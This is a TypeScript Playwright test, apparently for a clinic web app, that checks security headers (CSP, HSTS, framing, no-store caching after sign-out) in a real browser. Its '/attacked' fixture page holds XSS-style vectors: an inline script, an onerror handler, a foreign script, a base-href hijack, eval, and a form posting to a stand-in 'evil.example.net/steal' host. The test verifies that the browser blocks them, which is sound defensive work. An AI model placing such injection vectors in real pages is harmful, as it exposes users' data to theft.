/**
 * The headers of the public listener, and `no-store`, in a real browser over TLS: `npx tsx test/browser/edge.browser.ts`.
 * Needs Chromium (`CHROMIUM`, or /usr/bin/chromium).
 */
import { deepEqual, equal, ok, rejects } from 'node:assert/strict';
import { createHash, X509Certificate } from 'node:crypto';
import { createServer, type Server } from 'node:https';
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { buildSync } from 'esbuild';
import type { Browser, Page } from 'playwright-core';
import { allowCaching, noStoreMiddleware } from '../../runtime/http-cache-control';
import { certificateAuthority } from '../support/certificate';
import { launch, runChecks, type Checks } from './checks';
import { asListener, listenerAttributes } from './listener';

const HOST = 'app.example.com';
const PATIENT = 'Jane Doe, allergic to penicillin';

/** A small application as a bundler makes them: one script, one sheet, calls to its own server. */
const SPA = buildSync({
  stdin: {
    contents: `
      const root = document.getElementById('root')!;
      const answer = await fetch('/api/patients');
      const [patient] = await answer.json();
      const line = document.createElement('p');
      line.id = 'patient';
      line.textContent = patient.name;
      line.style.setProperty('--depth', '3');
      line.style.marginLeft = '7px';
      root.append(line);
      new Worker('/worker.js').addEventListener('message', ({ data }) => (root.dataset.worker = data));
    `,
    loader: 'ts',
    resolveDir: __dirname,
  },
  bundle: true,
  format: 'esm',
  minify: true,
  write: false,
}).outputFiles[0]!.text;

const page = (body: string, head = '') =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Clinic</title>${head}</head><body>${body}</body></html>`;

const TYPES = {
  html: 'text/html; charset=utf-8',
  js: 'text/javascript',
  css: 'text/css',
  json: 'application/json',
};

const COOKIE = 'Secure; HttpOnly; SameSite=Strict; Path=/';
let sessions = 0;

interface Site {
  readonly origin: string;
  readonly port: number;
  /** Requests for the chart that came to the server. */
  charts: number;
  signedIn: boolean;
}

function serve(site: Site, req: IncomingMessage, res: ServerResponse): void {
  const { pathname } = new URL(req.url ?? '/', site.origin);
  const send = (type: keyof typeof TYPES, body: string) =>
    res.setHeader('Content-Type', TYPES[type]).setHeader('Server', 'clinic/1.0').end(body);
  switch (pathname) {
    case '/':
      return void send(
        'html',
        page(
          '<div id="root"></div><script type="module" src="/app.js"></script>',
          '<link rel="stylesheet" href="/app.css">',
        ),
      );
    case '/app.js':
      allowCaching(res, 'public, max-age=31536000, immutable');
      return void send('js', SPA);
    case '/worker.js':
      return void send('js', 'postMessage("works")');
    case '/app.css':
      return void send('css', '#root { color: rgb(1, 2, 3) }');
    case '/api/patients':
      return void send('json', JSON.stringify([{ name: PATIENT }]));
    case '/attacked':
      return void send(
        'html',
        page(
          `<p id="styled" style="color: rgb(9, 9, 9)">text</p>
           <script>window.attacked = 'inline'</script>
           <img src="/missing.png" onerror="window.attacked = 'handler'">
           <script src="https://evil.example.net:${site.port}/evil.js"></script>
           <iframe src="https://evil.example.net:${site.port}/"></iframe>
           <form id="form" action="https://evil.example.net:${site.port}/steal"><input name="q"></form>
           <script src="/eval.js"></script>`,
          '<base href="https://evil.example.net/">',
        ),
      );
    case '/eval.js':
      return void send(
        'js',
        'try { eval("window.attacked = \'eval\'") } catch (error) { window.refused = error.name }',
      );
    case '/evil.js':
      return void send('js', "window.attacked = 'foreign'");
    case '/framing':
      return void res
        .setHeader('Content-Type', TYPES.html)
        .end(page(`<iframe src="https://${HOST}:${site.port}/"></iframe>`));
    case '/sign-in':
      site.signedIn = true;
      return void res
        .writeHead(303, { Location: '/chart', 'Set-Cookie': `__Host-session=${++sessions}; ${COOKIE}` })
        .end();
    case '/chart':
    case '/kept-chart':
      site.charts++;
      if (pathname === '/kept-chart') allowCaching(res, 'private, max-age=600');
      if (!site.signedIn) return void res.writeHead(303, { Location: '/signed-out' }).end();
      return void send('html', page(`<p>${PATIENT}</p>`));
    case '/sign-out':
      site.signedIn = false;
      return void res.writeHead(204, { 'Set-Cookie': `__Host-session=; Max-Age=0; ${COOKIE}` }).end();
    case '/signed-out':
      return void send('html', page('<p>Signed out</p>'));
    default:
      return void res.writeHead(404).end();
  }
}

async function start(): Promise<{ server: Server; site: Site; spki: string }> {
  const authority = certificateAuthority();
  const certificate = authority.issue(HOST);
  const attributes = listenerAttributes();
  const site: { -readonly [K in keyof Site]: Site[K] } = { origin: '', port: 0, charts: 0, signedIn: false };
  const server = createServer(certificate, (req, res) => {
    // The page that frames ours is somebody else's.
    if (req.url !== '/framing') asListener(attributes, res);
    noStoreMiddleware(req, res, () => serve(site, req, res));
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  site.port = (server.address() as AddressInfo).port;
  site.origin = `https://${HOST}:${site.port}`;
  const spki = new X509Certificate(certificate.cert).publicKey.export({ type: 'spki', format: 'der' });
  return { server, site, spki: createHash('sha256').update(spki).digest('base64') };
}

async function violations(at: Page, url: string): Promise<Set<string>> {
  const found = new Set<string>();
  await at.exposeFunction('violated', (directive: string) => found.add(directive));
  await at.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      (globalThis as unknown as { violated(directive: string): void }).violated(effectiveDirective),
    ),
  );
  await at.goto(url);
  return found;
}

/** By a call, as `SessionWatch` does: the cookie is gone before the page is left, and browsers do not keep such a page. */
async function signOut(at: Page, { origin }: Site): Promise<void> {
  await at.evaluate(() => fetch('/sign-out', { method: 'POST' }).then(({ status }) => status));
  await at.goto(`${origin}/signed-out`);
}

/** As a person goes back: a page that was kept comes without being loaded. */
async function back(at: Page): Promise<void> {
  const from = at.url();
  await at.evaluate(() => setTimeout(() => history.back()));
  for (let n = 0; n < 100 && at.url() === from; n++) await new Promise((done) => setTimeout(done, 20));
  await new Promise((done) => setTimeout(done, 200));
}

const CHECKS: Checks<Site> = {
  'the listener gives every header, and takes the name of the server': async (browser, { origin }) => {
    const at = await browser.newPage();
    const headers = (await at.goto(`${origin}/`))!.headers();
    const attributes = listenerAttributes();
    for (const name of [
      'strict_transport_security',
      'content_security_policy',
      'x_content_type_options',
      'x_frame_options',
    ]) {
      equal(headers[name.replaceAll('_', '-')], attributes.get(`routing.http.response.${name}.header_value`));
    }
    equal(headers['strict-transport-security'], 'max-age=31536000; includeSubDomains; preload');
    equal(headers.server, undefined);
    await at.close();
  },

  'a bundled application works under the policy: script, style, calls, worker': async (
    browser,
    { origin },
  ) => {
    const at = await browser.newPage();
    const found = await violations(at, `${origin}/`);
    await at.locator('#patient').waitFor();
    equal(await at.locator('#patient').textContent(), PATIENT);
    await at.waitForFunction(() => document.getElementById('root')?.dataset.worker === 'works');
    equal(await at.locator('#patient').evaluate((it) => getComputedStyle(it).color), 'rgb(1, 2, 3)');
    equal(await at.locator('#patient').evaluate((it) => getComputedStyle(it).marginLeft), '7px');
    deepEqual([...found], []);
    await at.close();
  },

  'nothing inline, nothing foreign and no evaluation runs': async (browser, { origin }) => {
    const at = await browser.newPage();
    const found = await violations(at, `${origin}/attacked`);
    await at.waitForFunction(() => 'refused' in globalThis);
    equal(await at.evaluate(() => (globalThis as { attacked?: string }).attacked), undefined);
    equal(await at.locator('#styled').evaluate((it) => getComputedStyle(it).color), 'rgb(0, 0, 0)');
    // Last: the tools of the browser wait for a navigation that never comes.
    await at.evaluate(() => setTimeout(() => (document.getElementById('form') as HTMLFormElement).submit()));
    for (const directive of [
      'script-src-elem',
      'script-src-attr',
      'style-src-attr',
      'script-src',
      'frame-src',
      'base-uri',
      'form-action',
    ]) {
      for (let n = 0; n < 50 && !found.has(directive); n++) await new Promise((done) => setTimeout(done, 20));
      ok(found.has(directive), `${directive} was not refused; refused were ${[...found].join(', ')}`);
    }
    equal(at.url(), `${origin}/attacked`);
    await at.close();
  },

  'nobody frames the page': async (browser, { port }) => {
    const at = await browser.newPage();
    await at.goto(`https://evil.example.net:${port}/framing`);
    await at.waitForLoadState();
    const framed = at.frames().find((frame) => frame !== at.mainFrame())!;
    equal(await framed.locator('#root').count(), 0);
    ok(framed.url().startsWith('chrome-error:'), framed.url());
    await at.close();
  },

  'the browser notes HSTS: plain HTTP is never spoken again': async (browser, { origin, port }) => {
    const context = await browser.newContext();
    const at = await context.newPage();
    const plain = `http://${HOST}:${port}/signed-out`;
    const before = await context.newPage();
    // A browser that has not been here speaks plain HTTP, which this server does not.
    await rejects(before.goto(plain));
    await before.close();
    await at.goto(`${origin}/signed-out`);
    const answer = await at.goto(plain);
    equal(answer!.url(), `${origin}/signed-out`);
    // Subdomains too.
    const below = await at.goto(`http://files.${HOST}:${port}/signed-out`);
    ok(below!.url().startsWith(`https://files.${HOST}`));
    await context.close();
  },

  'after signing out, "back" shows no chart and asks the server': async (browser, site) => {
    const at = await browser.newPage();
    await at.goto(`${site.origin}/sign-in`);
    equal(await at.locator('p').textContent(), PATIENT);
    const asked = site.charts;
    await signOut(at, site);
    await back(at);
    equal(await at.locator('p').textContent(), 'Signed out');
    ok(site.charts > asked, 'the chart came from a cache');
    await at.close();
  },

  'a chart that may be kept does come back: the check before would see it': async (browser, site) => {
    const at = await browser.newPage();
    await at.goto(`${site.origin}/sign-in`);
    await at.goto(`${site.origin}/kept-chart`);
    const asked = site.charts;
    await signOut(at, site);
    await back(at);
    equal(await at.locator('p').textContent(), PATIENT);
    equal(site.charts, asked);
    await at.close();
  },

  'a chart is asked for again each time; what may be kept is not': async (browser, site) => {
    const at = await browser.newPage();
    await at.goto(`${site.origin}/sign-in`);
    const asked = site.charts;
    await at.goto(`${site.origin}/chart`);
    await at.goto(`${site.origin}/signed-out`);
    await at.goto(`${site.origin}/chart`);
    equal(site.charts, asked + 2);
    await at.close();
  },
};

async function main(): Promise<void> {
  const { server, site, spki } = await start();
  const browser: Browser = await launch({
    // The browser keeps pages to go back to, as it does for people.
    ignoreDefaultArgs: ['--disable-back-forward-cache'],
    args: [
      '--host-resolver-rules=MAP *.example.com 127.0.0.1, MAP *.example.net 127.0.0.1',
      `--ignore-certificate-errors-spki-list=${spki}`,
    ],
  });
  try {
    await runChecks(CHECKS, browser, site, 'TLS-2');
  } finally {
    await browser.close();
    server.closeAllConnections();
    server.close();
  }
}

void main();
